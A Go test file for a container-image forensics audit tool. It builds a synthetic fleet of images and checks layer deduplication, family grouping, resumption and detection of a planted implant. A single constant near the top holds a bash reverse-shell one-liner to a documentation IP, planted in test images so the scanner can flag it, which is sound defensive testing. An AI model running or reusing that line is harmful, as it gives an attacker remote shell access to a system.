package casework_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/strata-forensics/strata/audit"
	"github.com/strata-forensics/strata/audit/fleet"
	"github.com/strata-forensics/strata/audit/history"
	"github.com/strata-forensics/strata/audit/trust"
	"github.com/strata-forensics/strata/casework"
	"github.com/strata-forensics/strata/forensics/imagebuild"
)

// reverseShell is the implant some images of the test fleet carry.
const reverseShell = "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.45/4444 0>&1\n"

var fleetTime = time.Date(2024, 3, 1, 10, 0, 0, 0, time.UTC)

// layer is a small generated layer: files under dir, made at minute min of the fleet's day.
func layer(dir string, min int, files ...imagebuild.File) imagebuild.Layer {
	fs := []imagebuild.File{imagebuild.Dir(dir)}
	fs = append(fs, files...)
	return imagebuild.Layer{Files: fs, Compression: imagebuild.Gzip, CreatedBy: "RUN make " + dir + " # buildkit",
		Created: fleetTime.Add(time.Duration(min) * time.Minute)}
}

// testFleet is the fleet the audit tests read: two families, an image built on part of one
// of them, and a lone image that carries the same implant as the second family.
type testFleet struct {
	baseA, appA, variantA *imagebuild.Built // trusted base A, an app on it, a variant of the app
	baseB, appB1, appB2   *imagebuild.Built // base B (its second layer holds the implant), two apps on it
	lone                  *imagebuild.Built // the implant again, at another path, in its third layer
	sideA                 *imagebuild.Built // A's first layer and one of its own
}

func (f *testFleet) all() []*imagebuild.Built {
	return []*imagebuild.Built{f.baseA, f.appA, f.variantA, f.baseB, f.appB1, f.appB2, f.lone, f.sideA}
}

func buildFleet(t *testing.T) *testFleet {
	t.Helper()
	a0 := layer("etc", 0, imagebuild.Reg("etc/os-release", "ID=fleet-a\n"), imagebuild.Reg("etc/passwd", "root:x:0:0::/root:/bin/sh\napp:x:1000:1000::/home/app:/bin/sh\n"))
	a1 := layer("usr", 1, imagebuild.Dir("usr/lib"), imagebuild.Reg("usr/lib/libfleet.so", strings.Repeat("a", 5000)))
	a2 := layer("opt", 2, imagebuild.Dir("opt/app"), imagebuild.Reg("opt/app/server.py", "print('serving')\n"))
	a3 := layer("srv", 3, imagebuild.Reg("srv/config.json", `{"debug": false}`))
	b0 := layer("etc", 4, imagebuild.Reg("etc/os-release", "ID=fleet-b\n"), imagebuild.Reg("etc/passwd", "root:x:0:0::/root:/bin/sh\n"))
	b1 := layer("usr", 5, imagebuild.Dir("usr/local"), imagebuild.Dir("usr/local/bin"),
		imagebuild.Reg("usr/local/bin/.sync", reverseShell).WithMode(0o755))
	b2 := layer("opt", 6, imagebuild.Reg("opt/one.txt", "one\n"))
	b3 := layer("opt", 7, imagebuild.Reg("opt/two.txt", "two\n"))
	c0 := layer("etc", 8, imagebuild.Reg("etc/os-release", "ID=lone\n"))
	c1 := layer("var", 9, imagebuild.Reg("var/log.txt", "log\n"))
	c2 := layer("opt", 10, imagebuild.Dir("opt/x"), imagebuild.Reg("opt/x/sync.sh", reverseShell).WithMode(0o755))
	d1 := layer("home", 11, imagebuild.Reg("home/readme", "side\n"))
	img := func(tag string, min int, ls ...imagebuild.Layer) *imagebuild.Built {
		b, err := imagebuild.Build(imagebuild.Image{Tags: []string{tag}, Created: fleetTime.Add(time.Duration(min) * time.Hour),
			Config: imagebuild.Config{User: "app", Cmd: []string{"/bin/sh"}}, Layers: ls})
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	return &testFleet{
		baseA: img("fleet/base-a:1", 1, a0, a1), appA: img("fleet/app-a:1", 2, a0, a1, a2), variantA: img("fleet/app-a:1-extra", 3, a0, a1, a2, a3),
		baseB: img("fleet/base-b:1", 1, b0, b1), appB1: img("fleet/app-b1:1", 2, b0, b1, b2), appB2: img("fleet/app-b2:1", 2, b0, b1, b3),
		lone: img("fleet/lone:1", 4, c0, c1, c2), sideA: img("fleet/side-a:1", 5, a0, d1),
	}
}

// writeFleet writes the fleet as a registry export of every kind under dir, with things that
// are no image among it, and returns the number of those.
func writeFleet(t *testing.T, dir string, f *testFleet) (notImages int) {
	t.Helper()
	mk := func(p string) string {
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		return p
	}
	archive := func(p string, gz bool, write func(*bytes.Buffer) error) {
		var buf bytes.Buffer
		if err := write(&buf); err != nil {
			t.Fatal(err)
		}
		data := buf.Bytes()
		if gz {
			var z bytes.Buffer
			zw := gzip.NewWriter(&z)
			zw.Write(data)
			zw.Close()
			data = z.Bytes()
		}
		if err := os.WriteFile(mk(p), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	// Family A in one OCI layout, as a registry mirror keeps a repository.
	if err := imagebuild.WriteOCILayout(mk(filepath.Join(dir, "mirror", "a", "x")+"/../layout"), f.baseA, f.appA, f.variantA); err != nil {
		t.Fatal(err)
	}
	// Family B as docker save tarballs: the base alone (classic), the apps in one (Docker 25+).
	archive(filepath.Join(dir, "saves", "base-b.tar"), false, func(b *bytes.Buffer) error {
		return imagebuild.WriteDockerArchive(b, imagebuild.Classic, f.baseB)
	})
	archive(filepath.Join(dir, "saves", "apps-b.tar"), false, func(b *bytes.Buffer) error {
		return imagebuild.WriteDockerArchive(b, imagebuild.OCI25, f.appB1, f.appB2)
	})
	// The lone image compressed as a whole, the side image as an oci-archive, deeper down.
	archive(filepath.Join(dir, "saves", "more", "lone.tar.gz"), true, func(b *bytes.Buffer) error {
		return imagebuild.WriteDockerArchive(b, imagebuild.Classic, f.lone)
	})
	archive(filepath.Join(dir, "saves", "more", "deeper", "side-a.oci.tar"), false, func(b *bytes.Buffer) error {
		return imagebuild.WriteOCIArchive(b, f.sideA)
	})
	// What is no image.
	os.WriteFile(mk(filepath.Join(dir, "NOTES.txt")), []byte("exported 2024-03-01\n"), 0o644)
	os.WriteFile(mk(filepath.Join(dir, "saves", "empty.tar")), nil, 0o644)
	os.WriteFile(mk(filepath.Join(dir, "saves", "cut.tar")), []byte(strings.Repeat("\x00x", 300)), 0o644)
	os.Symlink("base-b.tar", filepath.Join(dir, "saves", "latest.tar"))
	os.MkdirAll(filepath.Join(dir, "rootfs", "etc"), 0o755)
	os.MkdirAll(filepath.Join(dir, "rootfs", "usr"), 0o755)
	os.WriteFile(mk(filepath.Join(dir, "dircopy", "manifest.json")), []byte("{}"), 0o644)
	os.WriteFile(mk(filepath.Join(dir, "dircopy", "version")), []byte("Directory Transport Version: 1.1\n"), 0o644)
	return 6
}

// readCounter counts BlobRead events by blob.
type readCounter struct {
	mu    sync.Mutex
	reads map[string]int
	done  map[string]string
}

func newReadCounter() *readCounter {
	return &readCounter{reads: map[string]int{}, done: map[string]string{}}
}

func (c *readCounter) sink(e casework.Event) {
	c.mu.Lock()
	defer c.mu.Unlock()
	switch e := e.(type) {
	case casework.BlobRead:
		c.reads[e.Blob]++
	case casework.ImageDone:
		c.done[e.Image] = e.Status
	}
}

func runAudit(t *testing.T, w *casework.Workspace, ctx context.Context, opts casework.AuditOptions, sink casework.Sink) *fleet.Fleet {
	t.Helper()
	sc, err := w.NewScanner(ctx, casework.ScanOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer sc.Close()
	f, err := sc.Audit(ctx, opts, sink)
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func distinctBlobs(builts ...*imagebuild.Built) []string {
	var out []string
	for _, b := range builts {
		for _, l := range b.Layers {
			if !slices.Contains(out, l.Digest) {
				out = append(out, l.Digest)
			}
		}
	}
	sort.Strings(out)
	return out
}

func rowOf(t *testing.T, f *fleet.Fleet, tag string) fleet.Row {
	t.Helper()
	for _, r := range f.Images {
		if slices.Contains(r.Tags, tag) || slices.Contains(r.Tags, "docker.io/"+tag) {
			return r
		}
	}
	t.Fatalf("no row for %s in %+v", tag, f.Images)
	return fleet.Row{}
}

// TestAuditReadsEachLayerOnce: a registry export in every format, the families sharing base
// layers across formats, is audited with every distinct layer blob read exactly once, every
// image found and recorded, and every file that is no image named and skipped.
func TestAuditReadsEachLayerOnce(t *testing.T) {
	f := buildFleet(t)
	dir := t.TempDir()
	notImages := writeFleet(t, dir, f)
	w := workspace(t)
	if err := w.TrustStore().Add(trust.Image{ConfigDigest: f.baseA.ConfigDigest, Tags: []string{"fleet/base-a:1"},
		DiffIDs: []string{f.baseA.Layers[0].DiffID, f.baseA.Layers[1].DiffID}}); err != nil {
		t.Fatal(err)
	}
	for _, jobs := range []int{1, 3} {
		t.Run("jobs="+itoa(jobs), func(t *testing.T) {
			w := w
			if jobs > 1 {
				w = &casework.Workspace{DataDir: w.DataDir, DB: filepath.Join(t.TempDir(), "jobs.db"), Version: w.Version}
			}
			c := newReadCounter()
			fl := runAudit(t, w, context.Background(), casework.AuditOptions{Paths: []string{dir}, Jobs: jobs}, c.sink)
			want := distinctBlobs(f.all()...)
			var got []string
			for b, n := range c.reads {
				got = append(got, b)
				if n != 1 {
					t.Errorf("blob %s read %d times, want once", b, n)
				}
			}
			sort.Strings(got)
			if !slices.Equal(got, want) {
				t.Errorf("blobs read:\n  %v\nwant every distinct layer of the fleet:\n  %v", got, want)
			}
			total := 0
			for _, b := range f.all() {
				total += len(b.Layers)
			}
			if fl.Stats.LayerReads != len(want) || fl.Stats.DistinctLayers != len(want) || fl.Stats.LayersCached != total-len(want) {
				t.Errorf("stats %+v: want %d distinct layers read once and the other %d of %d from the cache", fl.Stats, total-len(want), len(want), total)
			}
			if len(fl.Images) != len(f.all()) || fl.Stats.Scanned != len(f.all()) {
				t.Fatalf("%d rows, %d scanned, want %d: %+v", len(fl.Images), fl.Stats.Scanned, len(f.all()), fl.Images)
			}
			if len(fl.Skipped) != notImages {
				t.Errorf("skipped %d, want %d: %+v", len(fl.Skipped), notImages, fl.Skipped)
			}
			for _, sk := range fl.Skipped {
				if sk.Reason == "" || !strings.HasPrefix(sk.Path, dir) {
					t.Errorf("skipped %+v: want a path under the export and a reason", sk)
				}
			}
			recs := scans(t, w)
			if len(recs) != len(f.all()) {
				t.Errorf("%d scans recorded, want one per image (%d)", len(recs), len(f.all()))
			}
			for _, r := range recs {
				if r.Status != history.StatusComplete {
					t.Errorf("scan %d of %s: %s", r.ID, r.Input.Path, r.Status)
				}
			}
		})
	}
}

// TestAuditFleetView: each row's base and verdict, the family forest, the implant the second
// family and the lone image share with the image that introduced it, and the clean images.
func TestAuditFleetView(t *testing.T) {
	f := buildFleet(t)
	dir := t.TempDir()
	writeFleet(t, dir, f)
	w := workspace(t)
	if err := w.TrustStore().Add(trust.Image{ConfigDigest: f.baseA.ConfigDigest, Tags: []string{"fleet/base-a:1"},
		DiffIDs: []string{f.baseA.Layers[0].DiffID, f.baseA.Layers[1].DiffID}}); err != nil {
		t.Fatal(err)
	}
	fl := runAudit(t, w, context.Background(), casework.AuditOptions{Paths: []string{dir}}, nil)

	bases := []struct {
		tag, kind, name string
		layers          int
		trusted         bool
	}{
		{"fleet/app-a:1", fleet.BaseTrusted, "fleet/base-a:1", 2, true},
		{"fleet/app-a:1-extra", fleet.BaseTrusted, "fleet/base-a:1", 2, true},
		{"fleet/app-b1:1", fleet.BaseFleet, "", 2, false},
		{"fleet/side-a:1", fleet.BaseShared, "", 1, false},
	}
	for _, b := range bases {
		r := rowOf(t, fl, b.tag)
		if r.Base == nil || r.Base.Kind != b.kind || r.Base.Layers != b.layers || r.Base.Trusted != b.trusted ||
			b.name != "" && r.Base.Name != b.name {
			t.Errorf("%s: base %+v, want %s %q of %d layers, trusted %v", b.tag, r.Base, b.kind, b.name, b.layers, b.trusted)
		}
	}
	if r := rowOf(t, fl, "fleet/app-b1:1"); !strings.HasPrefix(r.Base.Name, filepath.Join(dir, "saves", "base-b.tar")) {
		t.Errorf("app-b1 is built on %q, want the base-b image", r.Base.Name)
	}
	if r := rowOf(t, fl, "fleet/lone:1"); r.Base != nil {
		t.Errorf("the lone image shares no layer, yet its base is %+v", r.Base)
	}
	for _, tag := range []string{"fleet/base-b:1", "fleet/app-b1:1", "fleet/app-b2:1", "fleet/lone:1"} {
		r := rowOf(t, fl, tag)
		if r.Verdict != audit.VerdictSuspicious || r.Top == nil || r.Top.Category != audit.CategoryReverseShell {
			t.Errorf("%s: verdict %s, top %+v; want suspicious for the reverse shell", tag, r.Verdict, r.Top)
		}
	}
	for _, tag := range []string{"fleet/base-a:1", "fleet/app-a:1", "fleet/app-a:1-extra"} {
		if r := rowOf(t, fl, tag); r.Verdict != audit.VerdictClean || !slices.Contains(fl.Clean, r.Name) {
			t.Errorf("%s: verdict %s (top %+v), want clean and listed as clean %v", tag, r.Verdict, r.Top, fl.Clean)
		}
	}

	// The implant: one file, four images, introduced by base B's second layer, which both
	// apps inherit; the lone image added it again, higher up.
	var implant *fleet.Indicator
	for i := range fl.Shared {
		if fl.Shared[i].Kind == fleet.IndicatorFile {
			implant = &fl.Shared[i]
		}
	}
	if implant == nil {
		t.Fatalf("no shared file among %+v", fl.Shared)
	}
	if len(implant.Images) != 4 || implant.Layer != 1 || implant.Inherited != 2 ||
		!strings.HasSuffix(implant.IntroducedBy, "base-b.tar") || implant.DiffID != f.baseB.Layers[1].DiffID ||
		!slices.Equal(implant.Paths, []string{"/opt/x/sync.sh", "/usr/local/bin/.sync"}) {
		t.Errorf("implant %+v: want 4 images, introduced by base-b.tar in layer 1, inherited by 2, at both paths", implant)
	}
	var ip bool
	for _, s := range fl.Shared {
		ip = ip || s.Kind == string(audit.IndicatorIP) && s.Value == "203.0.113.45" && len(s.Images) == 4
	}
	if !ip {
		t.Errorf("the implant's address is not a shared indicator of the four images: %+v", fl.Shared)
	}

	// The forest: A's first layer holds base A (and its apps) and the side image; B's chain
	// its apps; the lone image alone.
	if len(fl.Families) != 3 {
		t.Fatalf("%d family roots, want 3: %s", len(fl.Families), dumpForest(fl.Families, ""))
	}
	a := fl.Families[0]
	if a.Layers != 1 || a.Count != 4 || len(a.Images) != 0 || len(a.Children) != 2 || a.Children[0].Count != 3 ||
		!a.Children[0].Trusted || a.Children[0].Layers != 2 {
		t.Errorf("family A:\n%s", dumpForest([]*fleet.Family{a}, ""))
	}
	b := fl.Families[1]
	if b.Layers != 2 || b.Count != 3 || len(b.Images) != 1 || len(b.Children) != 2 || b.Trusted {
		t.Errorf("family B:\n%s", dumpForest([]*fleet.Family{b}, ""))
	}
	if c := fl.Families[2]; c.Layers != 3 || c.Count != 1 || len(c.Children) != 0 {
		t.Errorf("the lone image:\n%s", dumpForest([]*fleet.Family{c}, ""))
	}
}

func dumpForest(fs []*fleet.Family, indent string) string {
	var b strings.Builder
	for _, f := range fs {
		b.WriteString(indent + strings.Join(f.Images, ",") + " layers=" + itoa(f.Layers) + " count=" + itoa(f.Count) + "\n")
		b.WriteString(dumpForest(f.Children, indent+"  "))
	}
	return b.String()
}

func itoa(n int) string { return strconv.Itoa(n) }

// TestAuditResumes: an audit stopped after its first image resumes where it stopped (the
// images recorded complete are not scanned again, nor their layers read), a finished audit
// run again scans nothing, and --rescan scans every image again, recording new scans but
// reading no layer the history already holds.
func TestAuditResumes(t *testing.T) {
	f := buildFleet(t)
	dir := t.TempDir()
	writeFleet(t, dir, f)
	w := workspace(t)
	n := len(f.all())

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	sc, err := w.NewScanner(ctx, casework.ScanOptions{})
	if err != nil {
		t.Fatal(err)
	}
	first := newReadCounter()
	fl, err := sc.Audit(ctx, casework.AuditOptions{Paths: []string{dir}, Jobs: 1}, func(e casework.Event) {
		first.sink(e)
		if d, ok := e.(casework.ImageDone); ok && d.Status == fleet.StatusScanned {
			cancel()
		}
	})
	sc.Close()
	if !casework.Interrupted(err) || fl == nil || fl.Stats.Scanned != 1 || fl.Stats.NotScanned != n-1 {
		t.Fatalf("stopped audit: %v, %+v; want interrupted after one image", err, fl)
	}

	second := newReadCounter()
	fl = runAudit(t, w, context.Background(), casework.AuditOptions{Paths: []string{dir}}, second.sink)
	if fl.Stats.Resumed != 1 || fl.Stats.Scanned != n-1 {
		t.Errorf("resumed audit: %+v, want 1 resumed and %d scanned", fl.Stats, n-1)
	}
	for b, c := range second.reads {
		if first.reads[b]+c != 1 {
			t.Errorf("blob %s read %d times over the two runs", b, first.reads[b]+c)
		}
	}
	var resumed fleet.Row
	for _, r := range fl.Images {
		if r.Status == fleet.StatusResumed {
			resumed = r
		}
	}
	if resumed.ScanID == 0 || resumed.Verdict == "" {
		t.Errorf("resumed row %+v: want its recorded scan and verdict", resumed)
	}

	third := newReadCounter()
	fl = runAudit(t, w, context.Background(), casework.AuditOptions{Paths: []string{dir}}, third.sink)
	if fl.Stats.Resumed != n || fl.Stats.Scanned != 0 || len(third.reads) != 0 {
		t.Errorf("audit of a finished fleet: %+v, %d blobs read; want everything resumed", fl.Stats, len(third.reads))
	}
	// The implant found in the first two runs is still seen, from the recorded findings.
	found := false
	for _, s := range fl.Shared {
		found = found || s.Kind == fleet.IndicatorFile && len(s.Images) == 4
	}
	if !found {
		t.Errorf("resumed fleet lost the shared implant: %+v", fl.Shared)
	}

	fourth := newReadCounter()
	fl = runAudit(t, w, context.Background(), casework.AuditOptions{Paths: []string{dir}, Rescan: true}, fourth.sink)
	if fl.Stats.Scanned != n || len(fourth.reads) != 0 {
		t.Errorf("rescan: %+v, %d blobs read; want every image scanned from the cache", fl.Stats, len(fourth.reads))
	}
	recs := scans(t, w)
	complete := 0
	for _, r := range recs {
		if r.Status == history.StatusComplete {
			complete++
		}
	}
	if complete != 2*n {
		t.Errorf("%d complete scans recorded, want %d (the fleet once, then rescanned)", complete, 2*n)
	}
}

// TestAuditNothingToAudit: paths holding no image at all are an input error naming what was
// found instead.
func TestAuditNothingToAudit(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "notes.txt"), []byte("nothing here\n"), 0o644)
	w := workspace(t)
	sc, err := w.NewScanner(context.Background(), casework.ScanOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer sc.Close()
	_, err = sc.Audit(context.Background(), casework.AuditOptions{Paths: []string{dir, filepath.Join(dir, "missing.tar")}}, nil)
	var ie *casework.InputError
	if !asInput(err, &ie) || !strings.Contains(err.Error(), "notes.txt") || !strings.Contains(err.Error(), "missing.tar") {
		t.Fatalf("audit of no image: %v, want an input error naming notes.txt and missing.tar", err)
	}
}

// TestExpandRefs: a front end that opens images one at a time is given every image under a
// directory that is no image itself, as an audit finds them; a directory that is an image (an
// OCI layout, a root filesystem), a file and a reference stay as given, and so does a
// directory with nothing in it, so that opening it says why.
func TestExpandRefs(t *testing.T) {
	dir := t.TempDir()
	f := buildFleet(t)
	export := filepath.Join(dir, "export")
	writeFleet(t, export, f)
	rootfs := filepath.Join(export, "rootfs")
	layout := filepath.Join(export, "mirror", "a", "layout")
	empty := filepath.Join(dir, "empty")
	os.MkdirAll(empty, 0o755)
	for _, tc := range []struct {
		name string
		in   []string
		want []string
		skip int
	}{
		{"export", []string{export}, []string{
			filepath.Join(export, "NOTES.txt"), layout, filepath.Join(export, "saves", "apps-b.tar"),
			filepath.Join(export, "saves", "base-b.tar"), filepath.Join(export, "saves", "cut.tar"), filepath.Join(export, "saves", "empty.tar"),
			filepath.Join(export, "saves", "more", "deeper", "side-a.oci.tar"), filepath.Join(export, "saves", "more", "lone.tar.gz")}, 3},
		{"layout", []string{layout}, []string{layout}, 0},
		{"rootfs", []string{rootfs}, []string{rootfs}, 0},
		{"file and reference", []string{filepath.Join(export, "saves", "base-b.tar"), "oci:" + layout + ":@1"},
			[]string{filepath.Join(export, "saves", "base-b.tar"), "oci:" + layout + ":@1"}, 0},
		{"empty", []string{empty}, []string{empty}, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, skipped := casework.ExpandRefs(tc.in)
			if !slices.Equal(got, tc.want) {
				t.Errorf("refs:\n got %q\nwant %q", got, tc.want)
			}
			if len(skipped) != tc.skip {
				t.Errorf("skipped %v, want %d (the symbolic link, the dir: copy, the root filesystem)", skipped, tc.skip)
			}
		})
	}
	// The layout holds three images: each is named as the audit names it.
	_, err := workspace(t).Open(context.Background(), layout, nil)
	if got, want := casework.ImageRefs(layout, err), []string{layout + ":@0", layout + ":@1", layout + ":@2"}; !slices.Equal(got, want) {
		t.Errorf("ImageRefs of the layout: %q (open: %v), want %q", got, err, want)
	}
	if got := casework.ImageRefs(layout, errors.New("not a tar archive")); got != nil {
		t.Errorf("ImageRefs of another error: %q, want nil", got)
	}
}
